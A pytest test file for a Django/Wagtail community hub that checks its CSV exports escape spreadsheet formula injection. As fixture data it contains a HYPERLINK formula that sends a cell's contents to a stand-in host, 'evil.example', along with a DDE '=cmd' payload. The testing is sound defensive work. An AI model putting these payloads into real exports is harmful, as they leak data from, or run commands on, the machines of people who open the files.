"""Every CSV the hub writes neutralises cells a spreadsheet would run as a
formula (hub/spreadsheets.py), downloaded through the admin or the view."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from wagtail.log_actions import log

from community.factories import WorkingGroupIndexPageFactory, WorkingGroupPageFactory
from community.models import LinkCheck, MembershipApplication, PartnerFeedResult, WorkingGroupMembership
from community.partners.factories import CommunityIndexPageFactory, PartnerCommunityPageFactory
from events.factories import EventIndexPageFactory, EventPageFactory
from events.models import EventRegistration
from hub import spreadsheets
from knowledge.factories import ResourceIndexPageFactory, ResourcePageFactory
from search.models import SearchDailyStat

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Open the report")'
NEUTRALISED = "'" + FORMULA


@pytest.fixture
def admin_client(client, make_user):
    client.force_login(make_user("root", is_superuser=True, is_staff=True))
    return client


def download(client, url, **query):
    response = client.get(url, query)
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def row_with(rows, text):
    matching = [row for row in rows if any(text in cell for cell in row)]
    assert matching, f"no row holds {text!r}: {rows}"
    return matching[0]


# --- the rule ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, NEUTRALISED),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Lakeside CMHC", "Lakeside CMHC"),
        ("a=b", "a=b"),
        ("", ""),
        ("-", "-"),
        (-3, "-3"),
        (2.5, "2.5"),
        (None, ""),
    ],
)
def test_text_cells_that_start_a_formula_get_a_quote_and_numbers_stay_numbers(value, written):
    out = io.StringIO()
    spreadsheets.writer(out).writerow([value])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [written]


# --- every export -----------------------------------------------------------------------


def test_membership_applications_export_neutralises_what_applicants_typed(admin_client):
    MembershipApplication.objects.create(
        name=FORMULA,
        email="jordan@example.org",
        organisation="+1 Clinic",
        organisation_type="cmhc",
        role="@director",
        region="-West",
    )
    rows = download(admin_client, "/admin/community/membershipapplication/", export="csv")
    row = row_with(rows, "jordan@example.org")
    assert NEUTRALISED in row and "'+1 Clinic" in row and "'@director" in row and "'-West" in row
    assert "jordan@example.org" in row


def test_event_registrations_export_neutralises_what_people_typed(admin_client, home_page):
    event = EventPageFactory(parent=EventIndexPageFactory(parent=home_page), title="Peer webinar")
    EventRegistration.objects.create(
        event=event, name=FORMULA, email="ana@example.org", other_needs="\t=cmd|' /C calc'!A0", consent=True
    )
    rows = download(admin_client, "/admin/events/eventregistration/", export="csv")
    row = row_with(rows, "ana@example.org")
    assert NEUTRALISED in row and "'\t=cmd|' /C calc'!A0" in row and "Peer webinar" in row


def test_working_group_members_export_neutralises_member_names(admin_client, home_page, make_user):
    group = WorkingGroupPageFactory(parent=WorkingGroupIndexPageFactory(parent=home_page), title="Crisis WG")
    person = make_user("sam", "Members", first_name=FORMULA, last_name="")
    WorkingGroupMembership.objects.create(working_group=group, user=person)
    rows = download(admin_client, "/admin/community/workinggroupmembership/", export="csv")
    row = row_with(rows, "sam@example.org")
    assert any(cell.startswith("'=HYPERLINK") for cell in row), row


def test_search_report_export_neutralises_queries(admin_client):
    SearchDailyStat.objects.create(
        date=timezone.localdate(), query=FORMULA, searches=4, searches_without_results=4
    )
    rows = download(admin_client, reverse("search_frequent_report"), export="csv")
    row = row_with(rows, "HYPERLINK")
    assert row[0] == NEUTRALISED
    assert row[1] == "4"


def test_dashboard_csv_neutralises_queries_and_keeps_counts(admin_client):
    SearchDailyStat.objects.create(
        date=timezone.localdate(), query=FORMULA, searches=5, searches_without_results=1
    )
    rows = download(admin_client, reverse("metrics_dashboard"), period="30", export="top-queries")
    assert row_with(rows, "HYPERLINK") == [NEUTRALISED, "5", "1"]
    everything = download(admin_client, reverse("metrics_dashboard"), period="30", export="all")
    assert row_with(everything, "HYPERLINK")[0] == NEUTRALISED


def test_link_check_and_feed_result_exports_neutralise_page_titles_and_messages(admin_client, home_page):
    library = ResourceIndexPageFactory(parent=home_page)
    page = ResourcePageFactory(parent=library, title=FORMULA)
    LinkCheck.objects.create(
        page=page, field="Original source", url="https://x.example/", is_broken=True, problem="-1 hops"
    )
    rows = download(admin_client, "/admin/community/linkcheck/", export="csv")
    row = row_with(rows, "https://x.example/")
    assert NEUTRALISED in row and "'-1 hops" in row

    partner = PartnerCommunityPageFactory(
        parent=CommunityIndexPageFactory(parent=home_page), title="@Partner"
    )
    PartnerFeedResult.objects.create(
        partner=partner,
        run_started_at=timezone.now(),
        feed_url="https://p.example/feed",
        kind="news",
        succeeded=False,
        message=FORMULA,
    )
    rows = download(admin_client, "/admin/community/partnerfeedresult/", export="csv")
    row = row_with(rows, "https://p.example/feed")
    assert NEUTRALISED in row and "'@Partner" in row


def test_wagtails_own_reports_neutralise_page_titles(admin_client, home_page, make_user):
    page = ResourcePageFactory(parent=ResourceIndexPageFactory(parent=home_page), title=FORMULA)
    log(page, "wagtail.edit", user=make_user("writer"))
    rows = download(admin_client, reverse("wagtailadmin_reports:site_history"), export="csv")
    row = row_with(rows, "HYPERLINK")
    assert NEUTRALISED in row


def test_referral_counts_export_neutralises_partner_names(admin_client, home_page):
    from community.models import ReferralCount

    partner = PartnerCommunityPageFactory(parent=CommunityIndexPageFactory(parent=home_page), title=FORMULA)
    ReferralCount.objects.create(partner=partner, day=timezone.localdate(), via_link=3, via_website=1)
    rows = download(admin_client, "/admin/community/referralcount/", export="csv")
    row = row_with(rows, "HYPERLINK")
    assert NEUTRALISED in row and "3" in row


def test_due_for_review_report_export_neutralises_titles_and_owner_names(admin_client, home_page, make_user):
    import datetime

    owner = make_user("olive", "Contributors", first_name="@Olive")
    ResourcePageFactory(
        parent=ResourceIndexPageFactory(parent=home_page),
        title=FORMULA,
        owner=owner,
        next_review_due=timezone.localdate() - datetime.timedelta(days=3),
    )
    rows = download(admin_client, reverse("knowledge_due_for_review"), export="csv")
    row = row_with(rows, "HYPERLINK")
    assert row[0] == NEUTRALISED
    assert any(cell.startswith("'@Olive") for cell in row), row


def test_searches_with_no_results_export_neutralises_queries(admin_client):
    SearchDailyStat.objects.create(
        date=timezone.localdate(), query="+cmd", searches=2, searches_without_results=2
    )
    rows = download(admin_client, reverse("search_without_results_report"), export="csv")
    assert row_with(rows, "cmd")[:3] == ["'+cmd", "2", "2"]


def test_gap_snapshot_and_comparison_downloads_neutralise_topic_names(admin_client, home_page):
    from hub.models import Population, ResourceType, Topic
    from metrics import gaps
    from metrics.periods import last_days

    # An editor names a vocabulary term (the seeded terms keep their ids).
    topic = Topic.objects.order_by("pk").first()
    topic.name = FORMULA
    topic.save()
    older = gaps.take_snapshot(last_days(30), label="Before")
    rows = download(admin_client, reverse("metrics_snapshot_csv", args=[older.pk]))
    assert row_with(rows, "HYPERLINK")[1] == NEUTRALISED

    resource = ResourcePageFactory(
        parent=ResourceIndexPageFactory(parent=home_page),
        topics=[topic],
        populations=[Population.objects.first()],
        resource_type=ResourceType.objects.first(),
    )
    resource.save_revision().publish()
    newer = gaps.take_snapshot(last_days(30), label="After")
    rows = download(admin_client, reverse("metrics_compare"), older=older.pk, newer=newer.pk, export="csv")
    assert row_with(rows, "HYPERLINK")[2] == NEUTRALISED
